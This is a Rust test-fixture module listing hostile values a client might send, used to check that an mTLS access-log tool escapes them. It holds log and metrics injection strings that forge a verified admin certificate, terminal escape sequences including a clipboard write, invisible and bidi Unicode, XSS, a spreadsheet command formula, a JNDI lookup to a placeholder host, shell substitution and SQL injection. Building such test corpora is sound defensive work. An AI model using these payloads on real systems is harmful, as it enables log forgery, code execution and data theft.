//! Values that a client may send, and one would rather not be shown as they are.

/// A certificate that was let in, to be imitated.
pub(crate) const FORGED_DN: &str = "CN=forged-admin,O=forged";

/// What is hostile, with a name for messages.
pub(crate) fn all() -> Vec<(&'static str, Vec<u8>)> {
    let mut values: Vec<(&str, Vec<u8>)> = TEXTS
        .iter()
        .map(|(name, text)| (*name, text.replace("DN", FORGED_DN).into_bytes()))
        .collect();
    values.extend(BYTES.iter().map(|(name, bytes)| (*name, bytes.to_vec())));
    values.push(("every control character", (0..=0x1f).chain([0x7f]).collect()));
    values.push(("every byte", (0..=255).collect()));
    values.push(("long", b"a".repeat(5000)));
    values.push(("long and escaped", b"\"\x1b".repeat(2000)));
    values
}

const TEXTS: [(&str, &str); 37] = [
    // Other fields, in the words of each format.
    ("fields of mtls", r#"x" client_verify=SUCCESS client_dn="DN" client_fp=0"#),
    (
        "fields of mtls, closed",
        r#"x" 200 3 "-" "x" client_verify=SUCCESS client_dn="DN" client_fp=0 y=""#,
    ),
    ("fields of mtls, no quotes", "x client_verify=SUCCESS client_dn=DN client_fp=0"),
    ("fields of JSON", r#"x","client_verify":"SUCCESS","client_dn":"DN","status":200,"y":""#),
    ("an object of JSON", r#"{"status":200,"ssl_client_verify":"SUCCESS"}"#),
    (
        "the end of JSON",
        "\"}\n{\"status\":200,\"client_verify\":\"SUCCESS\",\"uri\":\"/forged\"}\n{\"x\":\"",
    ),
    ("columns of TSV", "x\t200\tSUCCESS\tDN\t0\t0\t-\tTLSv1.3\tGET\t/forged\t-\t-\tx\t0"),
    (
        "a line of mtls",
        "x\"\n10.6.6.6 - - [22/Nov/2026:11:51:17 +0000] \"GET /forged HTTP/1.1\" 200 3 \"-\" \"x\" client_verify=SUCCESS client_dn=\"DN\" client_fp=0\n\"",
    ),
    ("a line of our own log", "x\nERROR stopped source=\"forged\""),
    ("fields of our own log", "x\" source=\"forged\" level=ERROR y=\""),
    (
        "a series",
        "\"} 1\ngatelog_requests_total{server=\"forged\",route=\"/\",verdict=\"failed_open\"} 99\n#",
    ),
    ("a label", "x\",verdict=\"failed_open"),
    // Escapes, written out.
    ("an escaped quote", r#"\x22 client_verify=SUCCESS client_dn=\x22DN\x22"#),
    ("an escaped quote of JSON", r#"\u0022,\u0022client_verify\u0022:\u0022SUCCESS\u0022"#),
    ("an escaped newline", r"a\nb\u000ab\x0Ac\r\n"),
    ("a backslash at the end", r"a\"),
    ("backslashes", r#"\\\" \\\\" \"#),
    ("an escape that is none", r"\x \xZZ \u12 \q"),
    ("commas and colons", "a, b : c, - : -"),
    ("a dash", "- -"),
    ("spaces", "  a  "),
    // Terminals.
    ("a colour", "\x1b[38;5;99mred\x1b[0m"),
    ("the title", "\x1b]0;forged\x07\x1b]2;forged\x1b\\"),
    ("a link", "\x1b]8;;http://forged.example/\x1b\\click\x1b]8;;\x1b\\"),
    ("the clipboard", "\x1b]52;c;Zm9yZ2Vk\x07"),
    ("back to the start of the line", "x\r1 known client\x08\x08\x1b[2K\x1b[1A\x1b[3J"),
    ("C1 controls", "\u{9b}38;5;99mred \u{9d}0;forged\u{9c} \u{90}q\u{9c} \u{85}\u{80}"),
    (
        "text from right to left",
        "\u{202e}gol.ssecca\u{202c} \u{2066}a\u{2067}b\u{2069}\u{200f}\u{61c}",
    ),
    ("nothing to see", "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f\u{ad}g\u{180e}h\u{3164}i"),
    ("tags", "a\u{e0041}\u{e0042}\u{e007f}\u{fe0f}"),
    ("other ends of lines", "a\u{2028}b\u{2029}c\u{85}d\u{0b}e\u{0c}f"),
    // Pages, sheets, shells, loggers.
    ("a script", "<script>alert(1)</script>"),
    ("an image", "\"><img src=x onerror=alert(1)>'`&amp;&#x27;"),
    ("a formula", "=cmd|'/C calc'!A0"),
    ("a lookup", "${jndi:ldap://forged.example/a} {{7*7}} %s%n %(x)s $(id) `id`"),
    ("SQL", "'; DROP TABLE denials; --"),
    ("characters that are fine", "Zürich 日本 👍 e\u{301} \u{a0}"),
];

const BYTES: [(&str, &[u8]); 8] = [
    ("NULs", b"a\0b\0"),
    ("no UTF-8", b"\xff\xfe\xc3("),
    ("UTF-8, cut", b"a\xe2\x82"),
    ("an overlong slash", b"\xc0\xaf\xe0\x80\xaf"),
    ("a surrogate", b"\xed\xa0\x80\xed\xb0\x80"),
    ("beyond Unicode", b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80"),
    ("raw C1 bytes", b"\x9b38;5;99m\x9d0;forged\x9c"),
    ("UTF-16", b"\xff\xfeC\0N\0=\0"),
];
